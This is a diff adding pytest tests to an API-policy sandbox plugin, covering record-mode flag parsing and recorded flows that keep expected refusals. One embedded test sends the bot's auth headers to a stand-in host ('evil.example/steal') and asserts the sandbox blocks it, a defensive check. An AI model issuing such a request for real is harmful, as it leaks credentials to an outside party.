@@ -170,6 +170,22 @@ def test_record_modes(pytester: pytest.Pytester, ws: PluginWorkspace) -> None:
     pytester.runpytest("test_record.py", "--harness-record").assert_outcomes(passed=1)
     assert flow_file.read_text("utf-8") == original
 
+    flow_file.write_text(original + "# edited by hand\n", "utf-8")
+    pytester.runpytest("--harness-record=new", "test_record.py").assert_outcomes(passed=1)
+    assert flow_file.read_text("utf-8").endswith("# edited by hand\n")
+    # a path after the bare flag is the test to run, not the mode (which is then `all`)
+    pytester.runpytest("--harness-record", "test_record.py").assert_outcomes(passed=1)
+    assert flow_file.read_text("utf-8") == original
+
+
+def test_a_record_mode_that_is_not_one_is_a_usage_error(
+    pytester: pytest.Pytester, ws: PluginWorkspace
+) -> None:
+    ws.write({"bot.yaml": POLICY})
+    result = pytester.runpytest("--harness-record=neww")
+    result.stderr.fnmatch_lines(["ERROR: --harness-record: 'neww' is not one of none, new, all"])
+    assert result.ret == pytest.ExitCode.USAGE_ERROR
+
 
 MARKED_TESTS = """
 import pytest
@@ -256,3 +272,57 @@ def test_a_misspelled_record_mark_argument_fails_the_test_before_it_runs(
         ]
     )
     assert not (pytester.path / "scenarios" / "recorded").exists()
+
+
+EXPECTING_TESTS = """
+import pytest
+import requests
+
+ITEMS = "https://api.svc.example/items"
+
+
+@pytest.mark.harness_record(flow="expects-refusals")
+def test_expects_refusals(binding, assert_denied, assert_blocked):
+    bot = binding("bot@dev")
+    assert requests.get(ITEMS, headers=bot.headers).status_code == 200
+    assert requests.post(ITEMS, json={"name": "x"}, headers=bot.headers).status_code == 403
+    assert_denied("POST", ITEMS)
+    with pytest.raises(requests.ConnectionError):
+        requests.get("https://evil.example/steal", headers=bot.headers)
+    assert_blocked("evil.example")
+
+
+@pytest.mark.harness_record(flow="no-binding")
+def test_without_a_binding(sandbox, assert_denied):
+    assert requests.get(ITEMS).status_code == 401
+    assert_denied("GET", ITEMS)
+"""
+
+
+def test_recording_keeps_the_refusals_the_test_asserted(
+    pytester: pytest.Pytester, ws: PluginWorkspace
+) -> None:
+    """A call the test asserted was denied or blocked is recorded as expected to be refused,
+    so the binding that passed live passes its replay; a test that used no binding records
+    nothing, and passes."""
+    ws.write({"bot.yaml": POLICY})
+    pytester.makepyfile(test_expecting=EXPECTING_TESTS)
+    pytester.runpytest("test_expecting.py").assert_outcomes(passed=2)
+    flow: dict[str, Any] = yaml.safe_load(
+        recorded(pytester.path, "expects-refusals").read_text("utf-8")
+    )["flows"][0]
+    assert [(step["name"], step.get("expect")) for step in flow["steps"]] == [
+        ("GET /items", None),
+        ("POST /items", "denied"),
+        ("GET /steal", "denied"),
+    ]
+    assert not recorded(pytester.path, "no-binding").exists()
+    replay = pytester.runpytest("scenarios", "-rA")
+    assert ws.outcomes(replay.outlines) == {
+        ("PASSED", "scenarios/recorded/expects-refusals.yaml::expects-refusals[bot@dev]"),
+        # bot@prod may write: the POST the flow expects refused is allowed
+        ("FAILED", "scenarios/recorded/expects-refusals.yaml::expects-refusals[bot@prod]"),
+    }
+    replay.stdout.fnmatch_lines(
+        ["*svc:items.create was allowed, but the flow expects it to be denied*"]
+    )
